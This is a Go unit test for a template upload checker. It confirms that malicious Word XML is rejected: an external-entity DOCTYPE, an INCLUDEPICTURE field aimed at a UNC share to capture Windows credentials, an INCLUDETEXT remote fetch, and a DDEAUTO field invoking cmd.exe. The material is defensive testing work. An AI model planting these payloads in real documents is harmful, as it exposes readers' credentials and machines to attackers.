package docs

import (
	"errors"
	"testing"
)

// TestTemplateXMLTricksRefused: a ward template could put in the body a
// DOCTYPE declaring external entities, a processing instruction, or a
// field that makes Word fetch from elsewhere when the document is opened
// (INCLUDEPICTURE "\\\\host\\share\\x.png" sends the reader's Windows
// credentials to that host; the application form is opened by every
// author). Check passed them; each is refused now, when uploaded.
func TestTemplateXMLTricksRefused(t *testing.T) {
	for name, src := range map[string]string{
		"an external entity":        `<!DOCTYPE w:p [<!ENTITY x SYSTEM "http://example.com/x">]><w:p><w:r><w:t>a</w:t></w:r></w:p>`,
		"a processing instruction":  `<?xml-stylesheet href="http://example.com/x.xsl"?><w:p/>`,
		"a simple field":            `<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;\\\\host\\share\\x.png&quot;"/></w:p>`,
		"a complex field":           `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT "http://example.com/x"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
		"a chunk from elsewhere":    `<w:altChunk r:id="rId9"/>`,
		"a hyperlink to a relation": `<w:p><w:hyperlink r:id="rIdHeader1"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>`,
		"a field in a table's cell": `<w:tbl><w:tr><w:tc><w:p><w:fldSimple w:instr="DDEAUTO c:\\windows\\system32\\cmd.exe"/></w:p></w:tc></w:tr></w:tbl>`,
	} {
		t.Run(name, func(t *testing.T) {
			if err := Check(KeyApplication, []byte(src)); !errors.Is(err, ErrTemplate) {
				t.Fatalf("Check = %v, want ErrTemplate", err)
			}
		})
	}
}
